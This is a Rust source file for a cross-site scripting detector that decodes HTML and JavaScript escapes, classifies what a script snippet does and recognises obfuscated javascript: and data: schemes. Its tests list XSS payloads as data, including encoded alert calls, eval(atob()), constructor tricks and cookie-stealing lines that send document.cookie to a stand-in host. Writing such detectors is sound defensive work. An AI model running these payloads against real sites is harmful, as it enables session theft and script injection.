//! What a piece of JavaScript would do, as far as its names tell.
//!
//! Code is read as a sequence of names with what stands before and after them, after the encodings
//! that HTML and JavaScript undo themselves: character references, escapes in names and strings,
//! percent signs of URLs, comments.
//!
//! Reads    at most `CODE_BYTES_MAX` bytes.
//! Memory   the decoded copy of them.
//! Misses   names that are put together at run time; what a called function of the page does.
//! Source   CWE-79; HTML Living Standard 13.2.5 (character references); ECMA-262 12.7 (names).

/// Bytes of one piece of code that are read.
const CODE_BYTES_MAX: usize = 512;

/// A set of facts about code.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(super) struct Facts(u16);

impl Facts {
    /// A message box is shown to prove that the code ran.
    pub(super) const PROOF: Self = Self(1);
    /// A message box is shown.
    pub(super) const BOX: Self = Self(1 << 1);
    /// A message box is handed on, as a value.
    pub(super) const BOX_HANDED: Self = Self(1 << 2);
    /// Text is run as code.
    pub(super) const EVAL: Self = Self(1 << 3);
    /// The cookie of the page is read or written.
    pub(super) const COOKIE: Self = Self(1 << 4);
    /// Text is decoded.
    pub(super) const DECODE: Self = Self(1 << 5);
    /// Something is sent or loaded.
    pub(super) const SEND: Self = Self(1 << 6);
    /// A member of a global object is named by a string.
    pub(super) const BRACKET: Self = Self(1 << 7);
    /// A function is made out of a constructor.
    pub(super) const CONSTRUCTOR: Self = Self(1 << 8);
    /// A letter is written as an escape or reference.
    pub(super) const HIDDEN: Self = Self(1 << 9);
    /// Something is called.
    pub(super) const CALL: Self = Self(1 << 10);
    /// Something is assigned.
    pub(super) const ASSIGN: Self = Self(1 << 11);
    /// It begins like a function or an expression of a framework: source code, not an attribute.
    pub(super) const SOURCE: Self = Self(1 << 12);

    /// Both.
    pub(super) const fn and(self, other: Self) -> Self {
        Self(self.0 | other.0)
    }

    /// Whether one of these holds.
    pub(super) const fn has_any(self, some: Self) -> bool {
        self.0 & some.0 != 0
    }

    /// Whether the code shows that it ran, or steals: what attackers write, and few others.
    pub(super) const fn proves(self) -> bool {
        let acts = Self::BOX.and(Self::SEND).and(Self::EVAL);
        !self.has_any(Self::SOURCE)
            && (self.has_any(Self::PROOF.and(Self::BOX_HANDED).and(Self::CONSTRUCTOR))
                || self.has_any(Self::COOKIE) && self.has_any(acts)
                || self.has_any(Self::EVAL) && self.has_any(Self::DECODE)
                || self.has_any(Self::BRACKET) && self.has_any(Self::CALL)
                || self.has_any(Self::HIDDEN) && self.has_any(Self::CALL))
    }

    /// Whether the code does anything.
    pub(super) const fn acts(self) -> bool {
        !self.has_any(Self::SOURCE) && self.has_any(Self::CALL.and(Self::ASSIGN).and(Self::BOX))
    }
}

/// What `code` would do.
pub(super) fn facts(code: &[u8]) -> Facts {
    let (plain, is_hidden) = plain(code.get(..CODE_BYTES_MAX).unwrap_or(code));
    let mut facts = if is_hidden { Facts::HIDDEN } else { Facts::default() };
    let begin = plain.trim_ascii_start();
    let is_source = begin.starts_with(b"{") && !begin.starts_with(b"{{")
        || begin.starts_with(b"function")
        || begin.starts_with(b"()")
        || begin.starts_with(b"(e)");
    if is_source {
        facts = facts.and(Facts::SOURCE);
    }
    let mut at = 0;
    while let Some(&byte) = plain.get(at) {
        if !is_in_name(byte) {
            let is_assignment = byte == b'='
                && !matches!(plain.get(at + 1), Some(b'=' | b'>'))
                && !matches!(
                    at.checked_sub(1).and_then(|it| plain.get(it)),
                    Some(b'=' | b'!' | b'<' | b'>')
                );
            if is_assignment {
                facts = facts.and(Facts::ASSIGN);
            }
            if byte == b']' && matches!(plain.get(at + 1), Some(b'(' | b'`')) {
                facts = facts.and(Facts::CALL);
            }
            at += 1;
            continue;
        }
        let (before, rest) = plain.split_at_checked(at).unwrap_or_default();
        let length = rest.iter().take_while(|it| is_in_name(**it)).count();
        let (name, after) = rest.split_at_checked(length).unwrap_or_default();
        facts = facts.and(of_name(before, name, after));
        at += length;
    }
    facts
}

fn is_in_name(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'$')
}

fn of_name(before: &[u8], name: &[u8], after: &[u8]) -> Facts {
    let before = before.trim_ascii_end();
    let after = after.trim_ascii_start();
    let argument = called_with(after);
    let call =
        if argument.is_some() && name != b"function" { Facts::CALL } else { Facts::default() };
    let is_quoted = argument.is_some_and(|it| matches!(it, [b'\'' | b'"' | b'`' | b'/', ..]));
    let own = match name {
        b"msgbox"
            if argument.is_none()
                && matches!(after.first(), Some(b'0'..=b'9' | b'a'..=b'z' | b'"' | b'+')) =>
        {
            Facts::BOX.and(Facts::PROOF)
        }
        b"alert" | b"prompt" | b"confirm" | b"msgbox" => message_box(before, after, argument),
        b"write" if argument.is_some_and(|it| matches!(it, [b'0'..=b'9', b')', ..])) => {
            Facts::PROOF
        }
        // Nobody calls these with a template but to call without parentheses.
        b"call" | b"apply" | b"bind" if after.starts_with(b"`") => Facts::CONSTRUCTOR,
        b"print" if argument.is_some_and(|it| it.starts_with(b")")) => Facts::PROOF,
        b"eval"
            if matches!(before.last(), Some(b'=' | b','))
                && matches!(after.first(), None | Some(b')' | b';')) =>
        {
            Facts::BOX_HANDED
        }
        b"eval" | b"execscript" if argument.is_some() => Facts::EVAL,
        b"function" | b"settimeout" | b"setinterval" | b"import" if is_quoted => Facts::EVAL,
        b"importscripts" | b"insertadjacenthtml" if argument.is_some() => Facts::EVAL,
        // A cookie is a string: a bare word in its place is there to be seen.
        b"cookie" if assigns_word(after) => Facts::COOKIE.and(Facts::PROOF),
        b"cookie" if matches!(before.last(), Some(b'.' | b'\'' | b'"')) => Facts::COOKIE,
        b"fromcharcode" | b"atob" | b"unescape" | b"decodeuricomponent" | b"fromcodepoint"
            if argument.is_some() =>
        {
            Facts::DECODE
        }
        b"fetch" | b"xmlhttprequest" | b"sendbeacon" | b"activexobject" | b"getscript"
            if argument.is_some() =>
        {
            Facts::SEND
        }
        b"image" if before.ends_with(b"new") => Facts::SEND,
        b"location" if matches!(after, [b'=', next, ..] if *next != b'=') => Facts::SEND,
        b"document" | b"window" | b"self" | b"top" | b"parent" | b"frames" | b"this"
        | b"globalthis"
            if matches!(after, [b'[', b'\'' | b'"' | b'/' | b'`' | b'(' | b'8' | b'a', ..]) =>
        {
            Facts::BRACKET
        }
        b"constructor" => constructor(before, after, argument),
        b"__definegetter__" | b"__definesetter__" | b"__nosuchmethod__" => Facts::CONSTRUCTOR,
        _ => Facts::default(),
    };
    own.and(call)
}

/// `constructor.constructor`, `constructor('..')()`: a function out of text.
fn constructor(before: &[u8], after: &[u8], argument: Option<&[u8]>) -> Facts {
    let is_chained = before.ends_with(b"constructor.")
        || before.ends_with(b"constructor['")
        || before.ends_with(b"constructor[\"");
    let is_named =
        matches!(before, [.., b'[', b'\'' | b'"']) && matches!(after, [_, b']', b'[' | b'(', ..]);
    let makes = argument.is_some_and(|it| {
        matches!(it, [b'\'' | b'"' | b'`', ..])
            && memchr::memmem::find(it.get(..256).unwrap_or(it), b")(").is_some()
    });
    let is_of_literal = matches!(before, [.., b'\'' | b'"' | b']' | b')', b'.'])
        && after.starts_with(b".prototype.");
    if is_chained || is_named || makes || is_of_literal {
        Facts::CONSTRUCTOR
    } else {
        Facts::default()
    }
}

fn message_box(before: &[u8], after: &[u8], argument: Option<&[u8]>) -> Facts {
    const GLOBALS: &[&[u8]] =
        &[b"window", b"self", b"top", b"parent", b"frames", b"this", b"globalthis", b"document"];
    let is_own = match before.split_last() {
        Some((b'.', owner)) => {
            GLOBALS.iter().any(|it| owner.ends_with(it)) || owner.ends_with(b")")
        }
        _ => true,
    };
    if !is_own {
        return Facts::default();
    }
    let is_spliced = before.ends_with(b"${") && after.starts_with(b"}");
    let handed = is_spliced
        || matches!(before.last(), Some(b'=' | b'(' | b',' | b'[' | b':' | b'?'))
            && matches!(after.first(), Some(b')' | b',' | b';' | b']' | b'.' | b'|' | b'}'));
    match argument {
        Some(argument) if is_proof(argument) => Facts::BOX.and(Facts::PROOF),
        Some(_) => Facts::BOX,
        None if handed => Facts::BOX_HANDED,
        None if matches!(before, [.., b'\'' | b'"'])
            && matches!(after, [b'\'' | b'"', b']', ..]) =>
        {
            Facts::BOX_HANDED
        }
        None => Facts::default(),
    }
}

fn assigns_word(after: &[u8]) -> bool {
    let Some(value) = after.strip_prefix(b"=") else { return false };
    let word = value.iter().take_while(|it| it.is_ascii_alphanumeric()).count();
    let ends =
        value.get(word).is_none_or(|it| matches!(it, b';' | b'<' | b'"' | b'\'' | b')' | b'/'));
    (1..=8).contains(&word) && ends
}

/// What stands behind the opening parenthesis or backtick of a call.
fn called_with(after: &[u8]) -> Option<&[u8]> {
    let after = after.strip_prefix(b"?.").unwrap_or(after);
    let after =
        after.strip_prefix(b".call").or_else(|| after.strip_prefix(b".apply")).unwrap_or(after);
    let after = after.trim_ascii_start();
    match after {
        [b'(' | b'`', argument @ ..] => Some(argument.trim_ascii_start()),
        [b')', b'(' | b'`', argument @ ..] => Some(argument.trim_ascii_start()),
        _ => None,
    }
}

/// An argument that is no message for people: nothing, a number, one word, a part of the page.
fn is_proof(argument: &[u8]) -> bool {
    let quoted = match argument {
        [b'/', ..] => return true,
        [0xE2, 0x80, 0x98..=0x9F, rest @ ..] => rest,
        [b'\'' | b'"' | b'`', rest @ ..] => rest,
        [b'\\', b'\'' | b'"' | b'`', rest @ ..] => rest,
        _ => return is_proof_bare(argument),
    };
    let word = quoted.iter().take_while(|it| is_in_name(**it)).count();
    let ends = quoted
        .get(word)
        .is_none_or(|it| matches!(it, b'\'' | b'"' | b'`' | b'/' | b'\\' | b'!' | 0xE2));
    let is_word = ends && word <= 24;
    is_word || quoted.starts_with(b"xss") || quoted.starts_with(b"1")
}

fn is_proof_bare(argument: &[u8]) -> bool {
    const PAGE: &[&[u8]] = &[
        b"document",
        b"string.fromcharcode",
        b"window",
        b"self",
        b"atob(",
        b"location",
        b"origin",
        b"top.",
        b"this",
        b"name)",
        b"localstorage",
        b"sessionstorage",
        b"xss",
        b"navigator",
        b"null",
    ];
    matches!(argument, [] | [b'0'..=b'9' | b')' | b'/' | b'-' | b'`', ..])
        || PAGE.iter().any(|it| argument.starts_with(it))
}

/// Decodes what HTML and JavaScript decode themselves, drops comments, makes letters small; tells
/// whether a letter, colon or parenthesis had been hidden by it.
fn plain(code: &[u8]) -> (Vec<u8>, bool) {
    let mut plain = Vec::with_capacity(code.len());
    let mut is_hidden = false;
    let mut rest = code;
    while let Some((byte, length)) = first(rest) {
        is_hidden |= length > 1 && (byte.is_ascii_alphabetic() || matches!(byte, b':' | b'('));
        rest = rest.get(length..).unwrap_or_default();
        if length == 1 && byte == b'/' && rest.first() == Some(&b'*') {
            match memchr::memmem::find(rest, b"*/") {
                Some(end) => rest = rest.get(end + 2..).unwrap_or_default(),
                None => plain.push(byte),
            }
            continue;
        }
        if byte != 0 {
            plain.push(byte.to_ascii_lowercase());
        }
    }
    (plain, is_hidden)
}

/// The first byte as HTML or JavaScript reads it, and how many bytes stand for it.
pub(super) fn first(text: &[u8]) -> Option<(u8, usize)> {
    let decoded = match text {
        [b'&', b'#', b'x' | b'X', digits @ ..] => reference(digits, 3, 16),
        [b'&', b'#', digits @ ..] => reference(digits, 2, 10),
        [b'&', name @ ..] => named(name),
        [b'\\', b'x', high, low, ..] => pair(*high, *low).map(|it| (it, 4)),
        [b'\\', b'u' | b'U', b'0', b'0', high, low, ..] => pair(*high, *low).map(|it| (it, 6)),
        [b'\\', b'u' | b'U', b'{', digits @ ..] => {
            reference(digits, 3, 16).map(|(byte, length)| (byte, length + 1))
        }
        [b'%', high, low, ..] => pair(*high, *low).map(|it| (it, 3)),
        _ => None,
    };
    decoded.or_else(|| text.first().map(|it| (*it, 1)))
}

fn pair(high: u8, low: u8) -> Option<u8> {
    let digit = |it: u8| char::from(it).to_digit(16);
    u8::try_from(digit(high)? * 16 + digit(low)?).ok()
}

/// A number of at most ten digits, and a semicolon that may be missing.
fn reference(digits: &[u8], before: usize, radix: u32) -> Option<(u8, usize)> {
    let mut value = 0_u32;
    let mut count = 0;
    for digit in digits.iter().take(10).map_while(|it| char::from(*it).to_digit(radix)) {
        value = value.saturating_mul(radix).saturating_add(digit);
        count += 1;
    }
    let byte = u8::try_from(value).ok().filter(|it| count > 0 && it.is_ascii())?;
    let ends = usize::from(digits.get(count) == Some(&b';'));
    Some((byte, before + count + ends))
}

fn named(text: &[u8]) -> Option<(u8, usize)> {
    const NAMES: &[(&[u8], u8)] = &[
        (b"colon;", b':'),
        (b"tab;", b'\t'),
        (b"newline;", b'\n'),
        (b"lpar;", b'('),
        (b"rpar;", b')'),
        (b"sol;", b'/'),
        (b"quot;", b'"'),
        (b"apos;", b'\''),
        (b"lt;", b'<'),
        (b"gt;", b'>'),
        (b"period;", b'.'),
        (b"comma;", b','),
        (b"semi;", b';'),
        (b"grave;", b'`'),
        (b"diacriticalgrave;", b'`'),
        (b"lsqb;", b'['),
        (b"rsqb;", b']'),
        (b"equals;", b'='),
        (b"bsol;", b'\\'),
        (b"plus;", b'+'),
        (b"excl;", b'!'),
        (b"num;", b'#'),
        (b"amp;", b'&'),
    ];
    let starts =
        |name: &[u8]| text.get(..name.len()).is_some_and(|it| it.eq_ignore_ascii_case(name));
    NAMES.iter().find(|it| starts(it.0)).map(|it| (it.1, it.0.len() + 1))
}

/// Schemes that run what follows them.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Scheme {
    /// `javascript:` and its old kin.
    Script,
    /// `data:` with a picture or other document that may hold scripts.
    Document,
    /// `data:` with a page or script in it.
    Page,
}

/// The running scheme that `text` begins with, whether it is hidden behind references, blanks or
/// control bytes, and what follows it.
pub(super) fn scheme(text: &[u8]) -> Option<(Scheme, bool, &[u8])> {
    const SCHEMES: &[(&[u8], Scheme)] = &[
        (b"javascript:", Scheme::Script),
        (b"javascript#", Scheme::Script),
        (b"vbscript:", Scheme::Script),
        (b"livescript:", Scheme::Script),
        (b"mocha:", Scheme::Script),
        (b"feed:javascript:", Scheme::Script),
        (b"data:text/html", Scheme::Page),
        (b"data:text/xml", Scheme::Document),
        (b"data:text/javascript", Scheme::Page),
        (b"data:application/javascript", Scheme::Page),
        (b"data:image/svg+xml", Scheme::Document),
        (b"data:application/xhtml", Scheme::Page),
        (b"data:,", Scheme::Page),
    ];
    let text = text.get(..SCHEME_BYTES_MAX.min(text.len()))?;
    let may = first_visible(text)?.to_ascii_lowercase();
    SCHEMES.iter().filter(|it| it.0.first() == Some(&may)).find_map(|&(name, kind)| {
        let (used, is_hidden) = begins(text, name)?;
        Some((kind, is_hidden, text.get(used..)?))
    })
}

/// Bytes that a scheme and its code are read from.
const SCHEME_BYTES_MAX: usize = 1024;

/// Blanks, control bytes and references that may stand before or in a scheme.
const BLANKS_MAX: usize = 96;

fn first_visible(text: &[u8]) -> Option<u8> {
    let mut rest = text;
    for _ in 0..BLANKS_MAX {
        let (byte, length) = first(rest)?;
        if !is_blank(byte, length) {
            return Some(byte);
        }
        rest = rest.get(length..)?;
    }
    None
}

/// What browsers have skipped in and before schemes: blanks, control bytes, and what is beyond ASCII
/// and written as an escape.
fn is_blank(byte: u8, length: usize) -> bool {
    byte <= b' ' || byte == 0x7F || byte > 0x7F && length > 1
}

/// How many bytes of `text` stand for `name`, with blanks and references anywhere.
fn begins(text: &[u8], name: &[u8]) -> Option<(usize, bool)> {
    let (mut used, mut met, mut blanks) = (0, 0, 0);
    let mut is_hidden = false;
    while let Some(&expected) = name.get(met) {
        let (byte, length) = first(text.get(used..)?)?;
        used += length;
        if byte.to_ascii_lowercase() == expected {
            is_hidden |= length > 1;
            met += 1;
        } else if is_blank(byte, length) {
            is_hidden |= met > 0;
            blanks += 1;
            if blanks > BLANKS_MAX {
                return None;
            }
        } else {
            return None;
        }
    }
    Some((used, is_hidden))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(expected: bool, codes: &[&str]) {
        for code in codes {
            assert_eq!(facts(code.as_bytes()).proves(), expected, "{code}");
        }
    }

    #[test]
    fn code_that_shows_that_it_ran_proves() {
        check(
            true,
            &[
                "alert(1)",
                "ALERT`1`",
                "alert()",
                "confirm(/x/)",
                "prompt(document.domain)",
                "top.alert('xss')",
                "window['alert'](1)",
                "top[/al/.source+/ert/.source](1)",
                "a=alert,a(1)",
                "[1].map(alert)",
                "(alert)(1)",
                "alert?.(1)",
                "alert.call(null,1)",
                "al&#101;rt(1)",
                "\\u0061lert(1)",
                "al/**/ert(1)",
                "eval(atob('x'))",
                "fetch('//e/'+document.cookie)",
                "new Image().src='//e?'+document.cookie",
                "constructor.constructor('x')()",
                "[].sort.constructor('y')()",
            ],
        );
    }

    #[test]
    fn code_of_pages_does_not() {
        check(
            false,
            &[
                "return confirm('Are you sure?')",
                "alert('Thank you for your order')",
                "save()",
                "this.src='fallback.png'",
                "this.dialog.alert(1)",
                "window.open('/help')",
                "function() { alert(1) }",
                "{() => alert(1)}",
                "void(0)",
                "history.back()",
                "this.constructor.name",
            ],
        );
    }

    #[test]
    fn schemes_are_found_behind_references_and_blanks() {
        for text in [
            "javascript:1",
            " JAVA\tscript:1",
            "&#106;avascript&colon;1",
            "java&Tab;script:1",
            "\u{1}javascript:1",
        ] {
            assert_eq!(scheme(text.as_bytes()).map(|it| it.0), Some(Scheme::Script), "{text}");
        }
        assert_eq!(scheme(b"data:text/html,x").map(|it| it.0), Some(Scheme::Page));
        for text in ["javascripts:1", "java script", "data:image/png;base64,AA", "date:", ""] {
            assert_eq!(scheme(text.as_bytes()), None, "{text}");
        }
    }
}
